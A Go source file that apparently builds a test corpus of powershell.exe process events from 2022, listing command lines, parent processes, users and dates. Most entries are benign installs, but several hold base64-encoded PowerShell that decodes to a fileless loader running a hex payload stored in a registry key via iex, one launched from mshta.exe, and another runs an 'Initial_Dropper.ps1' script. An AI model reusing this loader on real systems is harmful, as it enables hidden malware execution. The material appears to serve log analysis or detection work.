package corpus

// series is one command line of the talk: its parent, and on which days how many events of it came.
// Days are of 2022: "0902-0922*2" is two events on each day from September 2 to 22.
type series struct {
	command string
	days    string // printed in the series by day, 90 days
	august  string // in the stack of 120 days only, by our decision
	parent  string // empty: the event has none
	user    string
}

const (
	encodedHead = `JABoAD0AKABnAHAAIABIAEsATABNADoAXABTAFkAUwBUAEUATQBcAEMAdQByAHIAZQBuAHQAQwBvAG4AdAByAG8AbABTAGUAdABcAFMAZQByAHYAaQBjAGUAcwBcAFgAIAAi`
	encodedTail = `ACQAaAAuAFMAcABsAGkAdAAoACIAIAAiACkAfABmAG8AcgBFAGEAYwBoAHsAWwBjAGgAYQByAF0AKABbAGMAbwBuAHYAZQByAHQAXQA6ADoAdABvAGkAbgB0ADEANgAoACQAXwAsADEANgApACkAfQB8AGYAbwByAEUAYQBjAGgAewAkAHIAPQAkAHIAKwAkAF8AfQA7AGkAZQB4ACAAJAByADsA`
	encodedS    = encodedHead + `AHMAIgApAC4AcwA7` + encodedTail
	encodedX    = encodedHead + `AHgAIgApAC4AeAA7` + encodedTail
	system32    = `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"`
	neo4jBin    = `C:\Users\stushar\Downloads\neo4j-community-4.4.11\bin\`
	npcapTask   = `powershell.exe -NoProfile -WindowStyle Hidden -NonInteractive -Command "Register-ScheduledTask -Force -TaskName 'npcapwatchdog' -Description 'Ensure Npcap service is configured to start at boot' -Action (New-ScheduledTaskAction -Execute 'C:\Program Files\Npcap\CheckStatus.bat') -Principal (New-ScheduledTaskPrincipal -UserId 'SYSTEM' -LogonType ServiceAccount) -Trigger (New-ScheduledTaskTrigger -AtStartup) -Settings (New-ScheduledTaskSettingsSet -AllowStartIfOnBatteries -Compatibility Win8)"`
	npcapStart  = `powershell.exe -NoProfile -WindowStyle Hidden -NonInteractive -Command "Start-Service -Name npcap -PassThru | Stop-Service -PassThru | Start-Service"`
	dotnet      = `powershell.exe  -NoProfile -ExecutionPolicy unrestricted -Command "& { [Net.ServicePointManager]::SecurityProtocol = [Net.ServicePointManager]::SecurityProtocol -bor [Net.SecurityProtocolType]::Tls12 ; & 'c:\Users\Leolabs-win\.vscode\extensions\ms-dotnettools.vscode-dotnet-runtime-1.5.0\dist\install scripts\dotnet-install.ps1' -InstallDir 'c:\Users\Leolabs-win\AppData\Roaming\Code\User\globalStorage\ms-dotnettools.vscode-dotnet-runtime\.dotnet\6.0.9' -Version 6.0.9 -Runtime dotnet }`
	// The end of prunsrv's line, from --StartMetho on, is ours.
	prunsrv = `powershell.exe -OutputFormat Text -ExecutionPolicy Bypass -Command "& '` + neo4jBin + `tools\prunsrv-amd64.exe'" "'//IS//neo4j' '--StartMode=jvm' '--StartMethod=start' '--ServiceUser=LocalSystem' '--Startup=auto'"`
)

// encodedDays are the days of both encoded commands.
const encodedDays = "0914*1 0915*1 0924*1 1001*1 1031*4 1110*1 1114*4 1116*2"

// talk is every powershell.exe process event of the talk. The two series with two parents stand twice.
var talk = []series{
	{command: `powershell.exe -ExecutionPolicy Restricted -Command Write-Host 'Final result: 1';`, parent: "CompatTelRunner.exe", user: "SYSTEM",
		days:   "0901*4 0902-0922*2 0924*4 0925-1003*2 1031*4 1101-1104*2 1106-1109*2 1114*4 1115-1117*2",
		august: "0822-0823*2 0825-0826*2 0829-0831*2"},
	{command: `"C:\Windows\SysWOW64\WindowsPowerShell\v1.0\powershell.exe" `, parent: "RuntimeBroker.exe", user: "Leolabs-win", days: "0904*2"},
	{command: system32 + " ", parent: "RuntimeBroker.exe", user: "Leolabs-win", days: "0904*2 0926*2 0929*2"},
	{command: system32 + " ", parent: "explorer.exe", user: "Leolabs-win", days: "0930*6 1001*1"},
	{command: npcapTask, parent: "npcap.exe", user: "stushar", days: "0907*2"},
	{command: npcapStart, parent: "npcap.exe", user: "stushar", days: "0907*2"},
	{command: `"C:\WINDOWS\System32\WindowsPowerShell\v1.0\powershell.exe" -encodedCommand ` + encodedX, parent: "powershell.exe", user: "Leolabs-win",
		days: encodedDays, august: "0830*1"},
	{command: system32 + ` -encodedcommand ` + encodedS, parent: "mshta.exe", user: "Leolabs-win", days: "1031*4"},
	{command: system32 + ` -encodedcommand ` + encodedS, user: "Leolabs-win",
		days: "0914*1 0915*1 0924*1 1001*1 1110*1 1114*4 1116*2", august: "0830*1"},
	{command: `powershell  `, parent: "cmd.exe", user: "Leolabs-win", days: "0926*2"},
	{command: `powershell   -nop .\Desktop\Initial_Dropper.ps1`, parent: "cmd.exe", user: "Leolabs-win", days: "0926*2"},
	{command: `Powershell  -NoProfile -NonInteractive -NoLogo -ExecutionPolicy Bypass -File "` + neo4jBin + `neo4j.ps1" install-service`, parent: "cmd.exe", user: "stushar", days: "0927*2"},
	{command: `powershell.exe -OutputFormat Text -ExecutionPolicy Bypass -Command "Get-Service neo4j | Format-Table -AutoSize"`, parent: "java.exe", user: "stushar", days: "0927*2"},
	{command: prunsrv, parent: "java.exe", user: "stushar", august: "0829*2"},
	{command: `C:\WINDOWS\System32\WindowsPowerShell\v1.0\powershell.exe`, parent: "Code.exe", user: "Leolabs-win", days: "1003*6 1004*2"},
	{command: dotnet, parent: "cmd.exe", user: "Leolabs-win", days: "1003*2"},
}

// policyTest is the event that only the series by day has: powershell.exe wrote a file.
var policyTest = series{command: system32 + " ", parent: "explorer.exe", user: "Leolabs-win", days: "0925*1"}
